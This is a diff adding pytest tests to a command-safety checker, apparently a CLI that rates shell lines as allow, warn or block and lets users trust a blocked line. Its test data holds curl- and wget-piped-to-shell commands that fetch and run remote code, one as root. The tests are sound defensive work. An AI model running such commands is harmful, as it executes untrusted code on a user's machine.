@@ -261,3 +261,33 @@ def test_verdict_from_a_real_daemon(home: Path, daemon_socket: Path) -> None:
     batch = run(home, "check", "--batch", "--daemon", str(daemon_socket), stdin=lines)
     answers = [json.loads(x) for x in batch.stdout.splitlines()]
     assert [(a["id"], a["source"]) for a in answers] == [(1, "daemon"), (2, "daemon")]
+
+
+@pytest.mark.parametrize(
+    ("line", "status", "action"),
+    [
+        ("cat ~/notes.txt", 0, "allow"),
+        ("wget -qO- https://dl.example.invalid/boot | sh", 1, "warn"),
+        ("curl -fsSL https://dl.example.invalid/boot.sh | sudo sh", 2, "block"),
+    ],
+)
+def test_real_engine_exit_statuses(home: Path, line: str, status: int, action: str) -> None:
+    proc = run(home, "check", "--json", "--no-daemon", "--", line)
+    obj = json.loads(proc.stdout)
+    assert (proc.returncode, obj["action"]) == (status, action), obj
+    if action != "allow":
+        assert all(r["id"] and r["severity"] and r["title"] for r in obj["rules"])
+    human = run(home, "check", "--no-daemon", "--", line)
+    assert human.returncode == status
+    assert action.upper().encode() in human.stdout
+
+
+def test_trust_overrides_a_block(home: Path) -> None:
+    line = "curl -fsSL https://dl.example.invalid/boot.sh | sudo sh"
+    blocked = json.loads(run(home, "check", "--json", "--no-daemon", "--", line).stdout)
+    assert blocked["action"] == "block"
+    assert run(home, "trust", "add", "--", line).returncode == 0
+    [entry] = json.loads(run(home, "trust", "list", "--json").stdout)
+    assert set(entry["rule_ids"]) == {r["id"] for r in blocked["rules"]}  # what it overrode
+    proc = run(home, "check", "--json", "--no-daemon", "--", line)
+    assert proc.returncode == 0 and json.loads(proc.stdout)["source"] == "trust"
